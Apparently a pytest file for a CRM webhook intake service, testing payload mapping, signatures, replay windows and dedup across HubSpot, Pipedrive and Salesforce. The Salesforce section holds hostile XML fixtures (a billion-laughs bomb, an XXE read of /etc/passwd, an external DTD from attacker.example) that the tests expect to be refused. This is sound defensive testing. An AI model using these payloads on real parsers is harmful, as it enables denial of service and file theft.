"""Inbound CRM webhooks: each provider's documented shape to one CrmEvent, authentication, dedup."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hubspot.utils.signature import Signature
from pydantic import ValidationError

from kindling.crm import events, generic, hubspot, pipedrive, salesforce
from kindling.crm.config import CrmConfig
from kindling.kernel.errors import InvalidInput, Unauthorized
from kindling_ops.config import ConfigError, load_file
from tests.fakes import FakeLedger, RecordingPublisher

ROOT = Path(__file__).resolve().parents[2]
CONFIG = load_file(ROOT / "config" / "crm.yaml", CrmConfig)
assert isinstance(CONFIG, CrmConfig)
NOW = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
PUBLIC = "https://api.kindling.example"
PATH = "/v1/webhooks/hubspot"
CLIENT_SECRET = "6c4e1b6e-9a2f-4f3e-8a51-0d6c2f1e7b90"


def millis(moment: datetime) -> str:
    return str(int(moment.timestamp() * 1000))


# --- config ----------------------------------------------------------------------------------------


def test_the_shipped_config_maps_the_documented_stages() -> None:
    assert CONFIG.lifecycle_stage("hubspot", "appointmentscheduled") == "sql"
    assert CONFIG.lifecycle_stage("hubspot", "closedwon") == "customer"
    assert CONFIG.lifecycle_stage("hubspot", "marketingqualifiedlead") == "mql"
    assert CONFIG.lifecycle_stage("pipedrive", "won") == "customer"
    assert CONFIG.lifecycle_stage("pipedrive", "3") == "opportunity"  # a YAML number, sent as text
    assert CONFIG.lifecycle_stage("salesforce", "Proposal/Price Quote") == "opportunity"
    assert CONFIG.lifecycle_stage("salesforce", "Closed Lost") == "closed_lost"
    assert CONFIG.lifecycle_stage("generic", "negotiation") == "opportunity"
    assert CONFIG.quiet_stages == ["sql", "opportunity"]
    assert CONFIG.reactivation is not None and CONFIG.reactivation.max_silence_days == {
        "sql": 21,
        "opportunity": 30,
    }
    assert CONFIG.recycle is not None and CONFIG.recycle.cooling_off_days == 30
    assert CONFIG.onboarding_program == "customer-onboarding"


def test_stage_names_match_ignoring_case_and_spaces_but_nothing_else() -> None:
    assert CONFIG.lifecycle_stage("salesforce", "closed  won") == "customer"
    assert CONFIG.lifecycle_stage("salesforce", "Closed-Won") is None
    assert CONFIG.lifecycle_stage("hubspot", "Prospecting") is None  # another provider's name


def test_config_problems_are_named() -> None:
    with pytest.raises(ValidationError) as caught:
        CrmConfig.model_validate({"stages": {"hubspt": {"a": "sql"}}})
    assert "stages.hubspt" in str(caught.value)
    with pytest.raises(ValidationError, match="same stage"):
        CrmConfig.model_validate({"stages": {"salesforce": {"Closed Won": "customer", "closed won": "sql"}}})
    with pytest.raises(ValidationError, match="not one of quiet_stages"):
        CrmConfig.model_validate(
            {"quiet_stages": ["sql"], "reactivation": {"program": "p", "max_silence_days": {"customer": 5}}}
        )
    with pytest.raises(ValidationError, match=r"stages\.generic\.demo"):
        CrmConfig.model_validate({"stages": {"generic": {"demo": "sales"}}})


def test_a_crm_config_naming_a_missing_program_fails_validation(tmp_path: Path) -> None:
    from kindling_ops.config import load

    (tmp_path / "scoring.yaml").write_text((ROOT / "config" / "scoring.yaml").read_text())
    (tmp_path / "programs").mkdir()
    (tmp_path / "crm.yaml").write_text("onboarding_program: no-such-program\n")
    with pytest.raises(ConfigError) as caught:
        load(tmp_path)
    assert any("onboarding_program: no program 'no-such-program'" in p for p in caught.value.problems)


# --- HubSpot ---------------------------------------------------------------------------------------

#: The batch HubSpot's webhooks documentation shows.
HUBSPOT_DOCUMENTED = [
    {
        "objectId": 1246965,
        "propertyName": "lifecyclestage",
        "propertyValue": "subscriber",
        "changeSource": "ACADEMY",
        "eventId": 3816279340,
        "subscriptionId": 25,
        "portalId": 33,
        "appId": 1160452,
        "occurredAt": 1462216307945,
        "subscriptionType": "contact.propertyChange",
        "attemptNumber": 0,
    },
    {
        "objectId": 1246978,
        "changeSource": "IMPORT",
        "eventId": 3816279480,
        "subscriptionId": 22,
        "portalId": 33,
        "appId": 1160452,
        "occurredAt": 1462216307945,
        "subscriptionType": "contact.creation",
        "attemptNumber": 0,
    },
]


def deal_stage(stage: str = "presentationscheduled", **extra: Any) -> dict[str, Any]:
    return {
        "eventId": 100,
        "subscriptionId": 7,
        "portalId": 62515,
        "appId": 54321,
        "occurredAt": 1795599000000,
        "subscriptionType": "deal.propertyChange",
        "attemptNumber": 0,
        "objectId": 9001,
        "propertyName": "dealstage",
        "propertyValue": stage,
        "changeSource": "CRM_UI",
        **extra,
    }


def from_hubspot(*given: dict[str, Any]) -> list[events.Delivery]:
    return hubspot.hubspot_deliveries(json.dumps(list(given)).encode(), CONFIG)


def test_a_deal_stage_change_becomes_one_deal_stage_changed_event() -> None:
    [delivery] = from_hubspot(deal_stage())
    [event] = delivery.events
    assert event.model_dump(mode="json") == {
        "event_id": "hubspot:62515:7:100:9001",
        "type": "crm.deal_stage_changed",
        "provider": "hubspot",
        "occurred_at": "2026-11-25T09:30:00Z",
        "lead": {"email": None, "crm_id": "9001", "crm_object": "deal"},
        "deal_id": "9001",
        "crm_stage": "presentationscheduled",
        "lifecycle_stage": "opportunity",
        "stage_known": True,
        "amount": None,
        "currency": None,
        "owner": None,
        "activity": None,
        "properties": {},
    }
    bus = event.bus_event()
    assert (bus.source, bus.detail_type, bus.time) == (
        "kindling.crm",
        "crm.deal_stage_changed",
        event.occurred_at,
    )


def test_an_email_added_on_the_way_names_the_lead() -> None:
    [delivery] = from_hubspot(deal_stage(contactEmail=" Ada@Acme.io "))
    assert delivery.events[0].lead == events.CrmLead(email="ada@acme.io", crm_id="9001", crm_object="deal")


def test_hubspots_documented_batch_becomes_contact_updates() -> None:
    lifecycle, created = from_hubspot(*HUBSPOT_DOCUMENTED)
    [event] = lifecycle.events
    assert event.type == "crm.contact_updated"
    assert event.lead == events.CrmLead(crm_id="1246965", crm_object="contact")
    assert (event.crm_stage, event.lifecycle_stage, event.stage_known) == ("subscriber", "subscriber", True)
    assert event.properties == {"lifecyclestage": "subscriber"}
    assert event.occurred_at == datetime(2016, 5, 2, 19, 11, 47, 945000, tzinfo=UTC)
    [event] = created.events
    assert event.type == "crm.contact_updated" and event.lead.crm_id == "1246978" and event.crm_stage is None
    assert not event.stage_known


def test_a_contact_email_change_names_the_lead_by_the_new_address() -> None:
    change = {**HUBSPOT_DOCUMENTED[0], "propertyName": "email", "propertyValue": "Grace@Fintech.io"}
    [event] = from_hubspot(change)[0].events
    assert event.lead.email == "grace@fintech.io" and event.crm_stage is None


def association(kind: str = "deal", removed: bool = False) -> dict[str, Any]:
    """A HubSpot association change, as documented: both ends named, no objectId."""
    ends = (
        {"fromObjectId": 9001, "toObjectId": 501}
        if kind == "deal"
        else {"fromObjectId": 501, "toObjectId": 9001}
    )
    return {
        "eventId": 300,
        "subscriptionId": 8,
        "portalId": 62515,
        "appId": 54321,
        "occurredAt": 1795599000000,
        "subscriptionType": f"{kind}.associationChange",
        "attemptNumber": 0,
        "changeSource": "USER",
        "associationType": "DEAL_TO_CONTACT" if kind == "deal" else "CONTACT_TO_DEAL",
        "associationRemoved": removed,
        "isPrimaryAssociation": False,
        **ends,
    }


def test_a_contact_associated_with_a_deal_becomes_deal_associated_for_that_contact() -> None:
    for side in ("deal", "contact"):
        [event] = from_hubspot(association(side))[0].events
        assert (event.type, event.deal_id) == ("crm.deal_associated", "9001")
        assert event.lead == events.CrmLead(crm_id="501", crm_object="contact")
    [removed] = from_hubspot(association(removed=True))
    assert removed.events == () and removed.ignored


def test_a_hubspot_event_naming_no_object_is_refused() -> None:
    nameless = {k: v for k, v in deal_stage().items() if k != "objectId"}
    with pytest.raises(InvalidInput, match="objectId"):
        from_hubspot(nameless)


def test_a_hubspot_owner_change_becomes_owner_assigned() -> None:
    [event] = from_hubspot(deal_stage(propertyName="hubspot_owner_id", propertyValue="4177"))[0].events
    assert (event.type, event.owner, event.deal_id) == ("crm.owner_assigned", "4177", "9001")


def test_an_unknown_stage_is_kept_and_reported_never_guessed() -> None:
    [event] = from_hubspot(deal_stage("1234567"))[0].events
    assert (event.crm_stage, event.lifecycle_stage, event.stage_known) == ("1234567", None, False)
    receipt = events.receive(from_hubspot(deal_stage("1234567")), FakeLedger(), RecordingPublisher(), NOW)
    assert receipt.unknown_stages == [event]


def test_events_that_do_not_matter_are_acknowledged_and_ignored() -> None:
    [delivery] = from_hubspot(deal_stage(subscriptionType="company.creation", propertyName=None))
    assert delivery.events == () and "company.creation" in (delivery.ignored or "")
    [delivery] = from_hubspot(deal_stage(propertyName="amount", propertyValue="100"))
    assert delivery.events == ()


def test_the_generic_object_subscription_types_are_understood() -> None:
    [event] = from_hubspot(deal_stage(subscriptionType="object.propertyChange", objectTypeId="0-3"))[0].events
    assert event.type == "crm.deal_stage_changed"


def test_a_retried_event_is_the_same_delivery() -> None:
    [first] = from_hubspot(deal_stage())
    [retry] = from_hubspot(deal_stage(attemptNumber=3))
    assert (first.id, first.digest, first.events) == (retry.id, retry.digest, retry.events)
    [other] = from_hubspot(deal_stage(eventId=101))
    assert other.id != first.id


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"not json", "the body is not valid JSON"),
        (b"[]", "expected a JSON array of HubSpot webhook events"),
        (b'"x"', "expected a JSON array of HubSpot webhook events"),
        (json.dumps([{k: v for k, v in deal_stage().items() if k != "eventId"}]).encode(), "[0].eventId"),
        (json.dumps([deal_stage(), deal_stage(occurredAt="soon")]).encode(), "[1].occurredAt"),
        (json.dumps([deal_stage(objectId=True)]).encode(), "[0].objectId"),
    ],
)
def test_a_malformed_batch_names_the_problem(body: bytes, problem: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        hubspot.hubspot_deliveries(body, CONFIG)
    assert any(p.startswith(problem) for p in caught.value.problems), caught.value.problems


def test_the_signed_uri_is_the_public_url_with_hubspots_characters_decoded() -> None:
    uri = hubspot.hubspot_request_uri(PUBLIC + "/", PATH, "a=b%3Ac%2Cd%40e&f=%20%2B%25")
    # HubSpot decodes : , @ (and the rest of its list), nothing else: %20 %2B %25 stay.
    assert uri == f"{PUBLIC}{PATH}?a=b:c,d@e&f=%20%2B%25"
    assert hubspot.hubspot_request_uri(PUBLIC, PATH, "") == PUBLIC + PATH
    assert hubspot.hubspot_request_uri(PUBLIC, PATH, "x=%253A") == f"{PUBLIC}{PATH}?x=%253A"  # decoded once


def test_with_no_public_url_configured_the_apis_own_url_is_used() -> None:
    default = "https://{api_id}.execute-api.eu-west-1.amazonaws.com"
    assert (
        hubspot.public_base_url(default, "a1b2c3d4e5")
        == "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com"
    )
    assert hubspot.public_base_url(PUBLIC, "a1b2c3d4e5") == PUBLIC
    with pytest.raises(ValueError, match="not an API Gateway API id"):
        hubspot.public_base_url(default, "evil.example/")


def hubspot_headers(body: bytes, at: datetime, uri: str = PUBLIC + PATH, secret: str = CLIENT_SECRET) -> dict:
    timestamp = millis(at)
    return {
        "x-hubspot-signature-v3": hubspot.hubspot_signature(secret, "POST", uri, body, timestamp),
        "x-hubspot-request-timestamp": timestamp,
    }


def verify_hubspot(
    body: bytes, headers: dict[str, str], now: datetime = NOW, uri: str = PUBLIC + PATH
) -> None:
    hubspot.verify_hubspot(CLIENT_SECRET, method="POST", uri=uri, body=body, headers=headers, now=now)


def test_our_v3_signature_is_the_one_hubspots_client_library_accepts() -> None:
    # HubSpot's library checks the timestamp against the wall clock: sign as of now.
    now = datetime.now(UTC)
    body = json.dumps([deal_stage()]).encode()
    uri = hubspot.hubspot_request_uri(PUBLIC, PATH, "portal=62515&tag=a%3Ab")
    headers = hubspot_headers(body, now, uri)
    assert Signature.is_valid(
        signature=headers["x-hubspot-signature-v3"],
        client_secret=CLIENT_SECRET,
        request_body=body.decode(),
        http_uri=uri,
        http_method="POST",
        signature_version="v3",
        timestamp=headers["x-hubspot-request-timestamp"],
    )
    library = Signature.get_signature(
        CLIENT_SECRET, body.decode(), "v3", uri, "POST", headers["x-hubspot-request-timestamp"]
    )
    verify_hubspot(body, {**headers, "x-hubspot-signature-v3": library}, now, uri)


def test_a_signed_request_within_five_minutes_is_accepted() -> None:
    body = json.dumps([deal_stage()]).encode()
    verify_hubspot(body, hubspot_headers(body, NOW - timedelta(minutes=4, seconds=59)))
    verify_hubspot(body, hubspot_headers(body, NOW + timedelta(minutes=4)))


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda b, h: (b + b" ", h), "invalid X-HubSpot-Signature-v3"),
        (lambda b, h: (b, {**h, "x-hubspot-signature-v3": "AAAA"}), "invalid X-HubSpot-Signature-v3"),
        (lambda b, h: (b, {k: v for k, v in h.items() if "signature" not in k}), "missing"),
        (lambda b, h: (b, {k: v for k, v in h.items() if "timestamp" not in k}), "missing"),
        (lambda b, h: (b, {**h, "x-hubspot-request-timestamp": "yesterday"}), "milliseconds"),
        (
            lambda b, h: (
                b,
                {**h, "x-hubspot-request-timestamp": str(int(h["x-hubspot-request-timestamp"]) + 1)},
            ),
            "invalid",
        ),
    ],
)
def test_tampered_or_unsigned_requests_are_refused(change: Any, message: str) -> None:
    body = json.dumps([deal_stage()]).encode()
    body, headers = change(body, hubspot_headers(body, NOW))
    with pytest.raises(Unauthorized, match=message):
        verify_hubspot(body, headers)


def test_a_replayed_request_outside_the_window_is_refused() -> None:
    body = json.dumps([deal_stage()]).encode()
    with pytest.raises(Unauthorized, match="more than 5 minutes old"):
        verify_hubspot(body, hubspot_headers(body, NOW - timedelta(minutes=5, seconds=1)))
    with pytest.raises(Unauthorized, match="future"):
        verify_hubspot(body, hubspot_headers(body, NOW + timedelta(minutes=6)))


def test_a_signature_for_another_url_or_secret_is_refused() -> None:
    body = json.dumps([deal_stage()]).encode()
    # What API Gateway hands the function (its own domain) is not what HubSpot called.
    gateway = "https://a1b2c3.execute-api.us-east-1.amazonaws.com" + PATH
    with pytest.raises(Unauthorized):
        verify_hubspot(body, hubspot_headers(body, NOW, uri=gateway))
    with pytest.raises(Unauthorized):
        verify_hubspot(body, hubspot_headers(body, NOW, secret="another-client-secret-0000"))


# --- Pipedrive -------------------------------------------------------------------------------------


def pipedrive_v1(current: dict[str, Any], previous: dict[str, Any] | None, **meta: Any) -> dict[str, Any]:
    return {
        "v": 1,
        "matches_filters": {"current": [], "previous": []},
        "meta": {
            "v": 1,
            "action": "updated",
            "object": "deal",
            "id": current.get("id"),
            "company_id": 7,
            "user_id": 11,
            "host": "acme.pipedrive.com",
            "timestamp": 1795599000,
            "timestamp_micro": 1795599000123456,
            "permitted_user_ids": [11],
            "trans_pending": False,
            "is_bulk_update": False,
            "pipedrive_service_name": False,
            "change_source": "app",
            "webhook_id": "77",
            **meta,
        },
        "current": current,
        "previous": previous,
        "retry": 0,
        "event": f"{meta.get('action', 'updated')}.{meta.get('object', 'deal')}",
    }


def pipedrive_v2(data: dict[str, Any], previous: dict[str, Any] | None, **meta: Any) -> dict[str, Any]:
    return {
        "meta": {
            "action": "change",
            "entity": "deal",
            "entity_id": str(data.get("id")),
            "id": "0c9d0f7e-7e35-4d5f-9d5e-2b8a2f0f6a11",
            "version": "2.0",
            "company_id": "7",
            "user_id": "11",
            "webhook_id": "78",
            "webhook_owner_id": "11",
            "correlation_id": "5b1c",
            "type": "general",
            "is_bulk_edit": False,
            "change_source": "app",
            "attempt": 1,
            "host": "acme.pipedrive.com",
            "timestamp": "2026-11-25T09:30:00.000Z",
            **meta,
        },
        "data": data,
        "previous": previous,
    }


DEAL = {
    "id": 501,
    "title": "Acme - 40 seats",
    "stage_id": 3,
    "status": "open",
    "person_id": 42,
    "org_id": 9,
    "value": 24000,
    "currency": "EUR",
    "user_id": 11,
}


def from_pipedrive(payload: dict[str, Any]) -> list[events.Delivery]:
    return pipedrive.pipedrive_deliveries(json.dumps(payload).encode(), CONFIG, NOW)


def test_a_v1_deal_moved_to_another_stage_becomes_deal_stage_changed() -> None:
    [delivery] = from_pipedrive(pipedrive_v1(DEAL, {**DEAL, "stage_id": 2}))
    [event] = delivery.events
    assert event.type == "crm.deal_stage_changed"
    assert event.lead == events.CrmLead(crm_id="42", crm_object="person")
    assert (event.deal_id, event.crm_stage, event.lifecycle_stage, event.stage_known) == (
        "501",
        "3",
        "opportunity",
        True,
    )
    assert (event.amount, event.currency, event.owner) == (24000.0, "EUR", "11")
    assert event.occurred_at == datetime(2026, 11, 25, 9, 30, 0, 123456, tzinfo=UTC)
    assert event.event_id == f"pipedrive:{delivery.id}:stage"


def test_a_won_deal_says_so_by_its_status() -> None:
    [event] = from_pipedrive(pipedrive_v1({**DEAL, "status": "won"}, DEAL))[0].events
    assert (event.crm_stage, event.lifecycle_stage) == ("won", "customer")
    [event] = from_pipedrive(pipedrive_v2({**DEAL, "status": "lost", "owner_id": 11}, {"status": "open"}))[
        0
    ].events
    assert (event.crm_stage, event.lifecycle_stage) == ("lost", "closed_lost")


def test_v2_previous_holds_only_what_changed() -> None:
    data = {**DEAL, "owner_id": 11}
    data.pop("user_id")
    [event] = from_pipedrive(pipedrive_v2(data, {"stage_id": 1}))[0].events
    assert (event.type, event.crm_stage, event.owner) == ("crm.deal_stage_changed", "3", "11")
    assert event.occurred_at == NOW
    [delivery] = from_pipedrive(pipedrive_v2(data, {"title": "Acme"}))
    assert delivery.events == () and "no stage or owner change" in (delivery.ignored or "")


def test_a_pipedrive_owner_change_becomes_owner_assigned() -> None:
    [event] = from_pipedrive(pipedrive_v1({**DEAL, "user_id": {"id": 12, "name": "Sam"}}, DEAL))[0].events
    assert (event.type, event.owner, event.deal_id) == ("crm.owner_assigned", "12", "501")


def test_a_new_deal_enters_its_stage_and_names_the_persons_email_when_given() -> None:
    person = {"value": 42, "name": "Ada", "email": [{"value": "ada@acme.io", "primary": True}]}
    created = from_pipedrive(pipedrive_v1({**DEAL, "person_id": person}, None, action="added"))
    [event] = created[0].events
    assert event.type == "crm.deal_stage_changed" and event.crm_stage == "3"
    assert event.lead == events.CrmLead(email="ada@acme.io", crm_id="42", crm_object="person")


def test_an_unknown_pipedrive_stage_is_reported() -> None:
    [event] = from_pipedrive(pipedrive_v1({**DEAL, "stage_id": 42}, DEAL))[0].events
    assert (event.crm_stage, event.lifecycle_stage, event.stage_known) == ("42", None, False)


def test_persons_and_activities() -> None:
    person = {
        "id": 42,
        "name": "Ada Lovelace",
        "emails": [{"value": "ada@acme.io", "primary": True}],
        "owner_id": 11,
    }
    [event] = from_pipedrive(pipedrive_v2(person, {"name": "Ada"}, entity="person"))[0].events
    assert event.type == "crm.contact_updated" and event.lead.email == "ada@acme.io"
    assert event.properties == {"name": "Ada Lovelace"}
    activity = {
        "id": 9,
        "type": "call",
        "subject": "Discovery call",
        "person_id": 42,
        "deal_id": 501,
        "user_id": 11,
    }
    [event] = from_pipedrive(pipedrive_v1(activity, None, action="added", object="activity"))[0].events
    assert event.type == "crm.activity_logged"
    assert event.activity == events.CrmActivity(type="call", subject="Discovery call")
    assert (event.lead.crm_id, event.deal_id) == ("42", "501")


def test_deletions_and_other_objects_are_ignored() -> None:
    assert from_pipedrive(pipedrive_v1(DEAL, DEAL, action="deleted"))[0].events == ()
    assert (
        from_pipedrive(pipedrive_v1({"id": 3, "name": "Acme"}, None, object="organization"))[0].events == ()
    )


def test_a_pipedrive_retry_is_the_same_delivery() -> None:
    first = from_pipedrive(pipedrive_v1(DEAL, {**DEAL, "stage_id": 2}))[0]
    again = from_pipedrive({**pipedrive_v1(DEAL, {**DEAL, "stage_id": 2}), "retry": 2})[0]
    assert first.id == again.id and first.events == again.events
    v2 = pipedrive_v2(DEAL, {"stage_id": 1})
    retried = {**v2, "meta": {**v2["meta"], "attempt": 3}}
    assert from_pipedrive(v2)[0].id == from_pipedrive(retried)[0].id
    assert from_pipedrive(pipedrive_v1({**DEAL, "stage_id": 4}, DEAL))[0].id != first.id


@pytest.mark.parametrize(
    ("payload", "problem"),
    [
        ({"current": DEAL}, "meta"),
        ({"meta": {"action": "updated"}, "current": DEAL}, "meta: names no object"),
        (
            pipedrive_v1({**DEAL, "id": None}, DEAL) | {"meta": {"action": "updated", "object": "deal"}},
            "current.id",
        ),
        ({"meta": {"action": "change", "entity": "deal"}, "data": "x"}, "data: expected the deal"),
        ([1], "expected a JSON object"),
    ],
)
def test_a_malformed_pipedrive_payload_names_the_problem(payload: Any, problem: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        from_pipedrive(payload)
    assert any(p.startswith(problem) for p in caught.value.problems), caught.value.problems


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def test_pipedrive_basic_credentials() -> None:
    pipedrive.verify_pipedrive("kindling", "s3cret-s3cret-s3cret", basic("kindling", "s3cret-s3cret-s3cret"))
    for header in (
        None,
        "",
        "Bearer x",
        "Basic !!!",
        basic("kindling", "wrong"),
        basic("other", "s3cret-s3cret-s3cret"),
        "Basic " + base64.b64encode(b"kindling").decode(),
    ):
        with pytest.raises(Unauthorized):
            pipedrive.verify_pipedrive("kindling", "s3cret-s3cret-s3cret", header)


# --- Salesforce ------------------------------------------------------------------------------------

ORG = "00D5e000000TkQZEA0"


def outbound(*notifications: str, org: str = ORG) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"'
        ' xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        "<soapenv:Body>"
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org}</OrganizationId>"
        "<ActionId>04k5e000000Gm3HAAS</ActionId>"
        '<SessionId xsi:nil="true"/>'
        "<EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/61.0/00D5e000000TkQZ</EnterpriseUrl>"
        "<PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/61.0/00D5e000000TkQZ</PartnerUrl>"
        + "".join(notifications)
        + "</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def notification(notification_id: str, sobject_type: str, **fields: str) -> str:
    body = "".join(f"<sf:{name}>{value}</sf:{name}>" for name, value in fields.items())
    return (
        f"<Notification><Id>{notification_id}</Id>"
        f'<sObject xsi:type="sf:{sobject_type}" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"{body}</sObject>"
        "</Notification>"
    )


OPPORTUNITY = notification(
    "04l5e00000BnCxWAAV",
    "Opportunity",
    Id="0065e00000AbCdEAAZ",
    Amount="25000.0",
    StageName="Proposal/Price Quote",
    OwnerId="0055e000001XyZAAAY",
    ContactId="0035e00000QwErTAAZ",
    LastModifiedDate="2026-11-25T09:29:58.000Z",
)


def from_salesforce(body: bytes) -> list[events.Delivery]:
    return salesforce.salesforce_deliveries(salesforce.parse_salesforce(body), CONFIG, NOW)


def test_an_opportunity_notification_becomes_deal_stage_changed() -> None:
    message = salesforce.parse_salesforce(outbound(OPPORTUNITY))
    assert (message.organization_id, message.action_id) == (ORG, "04k5e000000Gm3HAAS")
    [delivery] = salesforce.salesforce_deliveries(message, CONFIG, NOW)
    [event] = delivery.events
    assert delivery.id == "04l5e00000BnCxWAAV" and event.event_id == "salesforce:04l5e00000BnCxWAAV"
    assert event.type == "crm.deal_stage_changed"
    assert event.lead == events.CrmLead(crm_id="0035e00000QwErTAAZ", crm_object="contact")
    assert (event.deal_id, event.crm_stage, event.lifecycle_stage) == (
        "0065e00000AbCdEAAZ",
        "Proposal/Price Quote",
        "opportunity",
    )
    assert (event.amount, event.owner) == (25000.0, "0055e000001XyZAAAY")
    assert event.occurred_at == datetime(2026, 11, 25, 9, 29, 58, tzinfo=UTC)


def test_leads_contacts_tasks_and_unknown_stages() -> None:
    lead = notification(
        "04l5e00000BnCxXAAV",
        "Lead",
        Id="00Q5e00000Lm4kAEAR",
        Email="Grace@Fintech.io",
        Status="Working - Contacted",
    )
    task = notification(
        "04l5e00000BnCxYAAV",
        "Task",
        Id="00T5e0000",
        WhoId="00Q5e00000Lm4kAEAR",
        Subject="Call",
        TaskSubtype="Call",
    )
    odd = notification("04l5e00000BnCxZAAV", "Opportunity", Id="0065e00000AbCdFAAZ", StageName="Custom Stage")
    account = notification("04l5e00000BnCyAAAV", "Account", Id="0015e00000")
    lead_delivery, task_delivery, odd_delivery, account_delivery = from_salesforce(
        outbound(lead, task, odd, account)
    )
    [event] = lead_delivery.events
    assert event.type == "crm.contact_updated"
    assert event.lead == events.CrmLead(
        email="grace@fintech.io", crm_id="00Q5e00000Lm4kAEAR", crm_object="lead"
    )
    assert (event.crm_stage, event.lifecycle_stage, event.occurred_at) == ("Working - Contacted", "sql", NOW)
    [event] = task_delivery.events
    assert event.type == "crm.activity_logged" and event.activity == events.CrmActivity(
        type="Call", subject="Call"
    )
    assert event.lead.crm_object == "lead"
    [event] = odd_delivery.events
    assert (event.crm_stage, event.stage_known, event.lead.crm_object) == (
        "Custom Stage",
        False,
        "opportunity",
    )
    assert account_delivery.events == ()


def test_the_secret_comes_from_the_url_or_a_header() -> None:
    salesforce.verify_salesforce_secret("the-shared-secret-0123456789", None, "the-shared-secret-0123456789")
    salesforce.verify_salesforce_secret("the-shared-secret-0123456789", "the-shared-secret-0123456789", None)
    for given in [(None, None), ("", ""), ("wrong", None), (None, "the-shared-secret-012345678")]:
        with pytest.raises(Unauthorized):
            salesforce.verify_salesforce_secret("the-shared-secret-0123456789", *given)


def test_the_organization_must_be_ours_in_either_id_form() -> None:
    message = salesforce.parse_salesforce(outbound(OPPORTUNITY))
    salesforce.verify_salesforce_org(ORG, message)
    salesforce.verify_salesforce_org(ORG[:15], message)
    with pytest.raises(Unauthorized, match="another Salesforce organization"):
        salesforce.verify_salesforce_org("00D5e000000TkQYEA0", message)
    with pytest.raises(Unauthorized):
        salesforce.verify_salesforce_org(ORG.lower(), message)  # ids are case-sensitive


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>&lol9;</OrganizationId>
</notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_ENTITY = outbound(OPPORTUNITY, org="&xxe;").replace(
    b"?>", b'?><!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1
)
EXTERNAL_DTD = outbound(OPPORTUNITY).replace(
    b"?>", b'?><!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">', 1
)


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_xml_bombs_and_external_entities_are_refused(body: bytes) -> None:
    with pytest.raises(InvalidInput, match="DTD, entities or external references"):
        salesforce.parse_salesforce(body)


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (b"<notifications", "the body is not well-formed XML"),
        (b"<Envelope/>", "not a Salesforce outbound message"),
        (outbound(org=""), "notifications.OrganizationId: required"),
        (outbound(), "notifications: holds no Notification"),
        (outbound("<Notification><Id>04l5e00000BnCxWAAV</Id></Notification>"), "Notification[0].sObject"),
        (
            outbound(OPPORTUNITY.replace('xsi:type="sf:Opportunity" ', "")),
            "Notification[0].sObject: names no",
        ),
        (outbound(OPPORTUNITY.replace("<Id>04l5e00000BnCxWAAV</Id>", "")), "Notification[0].Id"),
    ],
)
def test_a_malformed_outbound_message_names_the_problem(body: bytes, problem: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        salesforce.parse_salesforce(body)
    assert any(p.startswith(problem) for p in caught.value.problems), caught.value.problems


# --- generic ---------------------------------------------------------------------------------------

HOOK_HEADERS = {
    "webhook-id": "msg_2Kq",
    "webhook-timestamp": str(int(NOW.timestamp())),
    "webhook-signature": "x",
}


def from_generic(payload: Any) -> list[events.Delivery]:
    return generic.generic_deliveries(json.dumps(payload).encode(), HOOK_HEADERS, CONFIG)


def test_each_generic_type_becomes_its_event() -> None:
    [stage] = from_generic(
        {
            "type": "deal.stage_changed",
            "timestamp": "2026-11-25T09:30:00Z",
            "data": {
                "email": "Ada@Acme.io",
                "deal_id": "D-7",
                "stage": "Proposal",
                "amount": 12000,
                "currency": "USD",
            },
        }
    )
    [event] = stage.events
    assert (stage.id, event.event_id, event.type) == ("msg_2Kq", "generic:msg_2Kq", "crm.deal_stage_changed")
    assert event.lead == events.CrmLead(email="ada@acme.io")
    assert (event.crm_stage, event.lifecycle_stage, event.amount, event.occurred_at) == (
        "Proposal",
        "opportunity",
        12000.0,
        NOW,
    )
    [event] = from_generic({"type": "owner.assigned", "data": {"crm_id": 88, "owner": "sam@acme.io"}})[
        0
